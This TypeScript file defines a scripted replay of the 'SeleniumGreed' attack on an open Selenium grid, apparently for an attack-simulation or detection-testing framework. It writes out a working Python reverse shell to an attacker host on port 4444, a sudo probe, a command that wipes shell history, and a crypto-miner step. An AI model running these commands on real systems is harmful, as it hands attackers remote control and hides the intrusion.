import { type Campaign, run, use } from './campaign.ts'
import { mine } from './miner.ts'

export const SELENIUM_GREED: Campaign = {
  id: 'selenium-greed',
  title: 'SeleniumGreed: open grid to reverse shell and miner',
  source: 'Wiz, 2024',
  victim: 'selenium',
  evasions: [],
  unseen: ['1: the session asked of the grid'],
  rows: (attack) => {
    const { drop } = attack
    const connect = `import socket,os,pty;s=socket.socket();s.connect(("${drop}",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/bash")`
    return [
      ['0:00', 2, run('server', `/usr/bin/python3 -c '${connect}'`, { as: 'python', to: [[drop, 4444]] })],
      ['0:02', 2, run('python', '/bin/bash', { as: 'shell' })],
      ['0:20', 3, run('shell', '/usr/bin/sudo -n true')],
      ['0:30', 3, run('shell', "/bin/bash -c 'export HISTFILE=/dev/null; unset HISTFILE'")],
      ['0:40', 3, use('shell', { to: [[drop, 80]] })],
      ...mine(attack, '1:10', 4, 'shell')
    ]
  }
}
